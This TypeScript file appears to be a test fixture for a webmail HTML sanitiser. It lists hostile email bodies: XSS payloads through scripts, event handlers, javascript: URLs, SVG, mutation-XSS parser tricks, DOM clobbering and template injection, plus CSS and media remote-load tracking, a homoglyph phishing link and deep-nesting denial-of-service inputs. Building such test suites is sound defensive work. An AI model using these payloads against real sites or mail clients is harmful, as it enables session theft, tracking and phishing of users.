/**
 * Bodies that strangers might send, after the classes of cross-site scripting that webmail has fallen to. Each tries to
 * call `window.pwned` or to fetch something from elsewhere.
 */
export const hostileBodies: Record<string, (remote: string) => string> = {
  script: (remote) => `<script>window.top.pwned()</script><script src="${remote}/x.js"></script>`,
  handlers: () =>
    `<img src=x onerror="top.pwned()"><body onload="top.pwned()"><div onpointerenter=top.pwned() style="width:999px;height:99px">x</div><details open ontoggle=top.pwned()><summary>s</summary></details>`,
  addresses: () =>
    `<a href="javascript:top.pwned()">a</a><a href="java&#10;script:top.pwned()">b</a><a href="data:text/html,<script>top.pwned()</script>">c</a><a href=" vbscript:top.pwned()">d</a><form action="javascript:top.pwned()"><button formaction="javascript:top.pwned()">e</button></form>`,
  frames: (remote) =>
    `<iframe srcdoc="<script>parent.top.pwned()</script>"></iframe><iframe src="javascript:top.pwned()"></iframe><object data="${remote}/o"></object><embed src="${remote}/e"><base href="${remote}/"><meta http-equiv="refresh" content="0;url=${remote}/m">`,
  mutation: () =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned()&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=top.pwned()>"></svg><noscript><p title="</noscript><img src=x onerror=top.pwned()>"></noscript><template><img src=x onerror=top.pwned()></template><select><style></select><img src=x onerror=top.pwned()></style></select><form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned()>`,
  svg: (remote) =>
    `<svg onload=top.pwned()><animate attributeName=href values="javascript:top.pwned()" /><a xlink:href="javascript:top.pwned()"><text y=20>x</text></a><foreignObject><img src=x onerror=top.pwned()></foreignObject><use href="${remote}/u.svg#x"/><feImage href="${remote}/f.png"/></svg>`,
  styles: (remote) =>
    `<style>@import url(${remote}/i.css); body{background:url(${remote}/b.png)} @font-face{font-family:f;src:url(${remote}/f.woff)} * {font-family:f}</style><div style="background:url(${remote}/s.png);position:fixed;inset:0;z-index:99999;width:expression(top.pwned())">over everything</div><p style="list-style-image:url('${remote}/l.png')">x</p><link rel=stylesheet href="${remote}/l.css"><link rel=prefetch href="${remote}/p"><link rel=dns-prefetch href="//${remote.slice(7)}">`,
  media: (remote) =>
    `<img src="${remote}/1.png"><img srcset="${remote}/2.png 2x"><picture><source srcset="${remote}/3.png"><img src="${remote}/4.png"></picture><video src="${remote}/v" poster="${remote}/v.png" autoplay></video><audio src="${remote}/a" autoplay></audio><table background="${remote}/t.png"><tr><td background="${remote}/td.png">x</td></tr></table><input type=image src="${remote}/in.png"><img src="//${remote.slice(7)}/5.png">`,
  clobbering: () =>
    `<form id=config name=body><input name=attributes><input name=contentDocument></form><a id=x><a id=x name=y href="javascript:top.pwned()"></a></a><img name=getElementById><div id="application">fake</div>`,
  templates: () => `{{7*7}} \${7*7} <%= 7*7 %> {{constructor.constructor('top.pwned()')()}}`,
  popups: (remote) =>
    `<a href="https://exаmple.com/login" target=_top ping="${remote}/ping" download>pay here</a><dialog open>Sign in<input></dialog>`,
  late: () =>
    `see https://safe.example/path"onmouseover="top.pwned() and <b>https://safe.example/&lt;img src=x onerror=top.pwned()&gt;</b>`,
  nested: () => `${"<div>".repeat(20_000)}deep${"</div>".repeat(20_000)}`,
  comments: () =>
    `<!--><img src=x onerror=top.pwned()>--><!--!><img src=x onerror=top.pwned()>--><![CDATA[<img src=x onerror=top.pwned()>]]><?xml <img src=x onerror=top.pwned()>?><xmp><img src=x onerror=top.pwned()></xmp><plaintext-x><textarea><img src=x onerror=top.pwned()></textarea>`,
  attributes: () =>
    `<a xlink:href="javascript:top.pwned()" ping="javascript:top.pwned()">a</a><img srcset="javascript:top.pwned() 1x" background="javascript:top.pwned()" poster="javascript:top.pwned()"><table background="javascript:top.pwned()"><tr><td style="behavior:url(#x);-moz-binding:url(//x)">x</td></tr></table><p style="color:red;&#10;position:fixed">x</p>`,
  selectors: (remote) =>
    `<style>:has(a){background:url(${remote}/has.png)} input[value^=a]{background:url(${remote}/a)} #x{position:fixed;z-index:2147483647}</style><div style="position:absolute;top:-9999px;z-index:2147483647;background-image:url(&quot;${remote}/q.png&quot;)">x</div><p style="background:\\75rl(${remote}/escaped.png);content:url(${remote}/c.png);cursor:url(${remote}/cur),auto;mask:url(${remote}/m.svg)">x</p>`,
  tables: () => `${"<table><tr><td>".repeat(60)}<img src=x onerror=top.pwned()>${"</td></tr></table>".repeat(60)}`,
  // Both are shown as text. Cutting tags out of the first by an expression took minutes, because no tag ends.
  "unclosed tags": () => `${"<div>".repeat(300)}${"<a".repeat(400_000)}`,
  "quotes in quotes": () => `${"<blockquote>".repeat(250)}${"x<br>".repeat(45_000)}`,
  siblings: () => "<i>x</i>".repeat(50_000),
  "twenty thousand attributes": () =>
    `<p ${Array.from({ length: 20_000 }, (_, index) => `data-a${index}="x" onclick${index}="top.pwned()"`).join(" ")}>many</p>`,
}
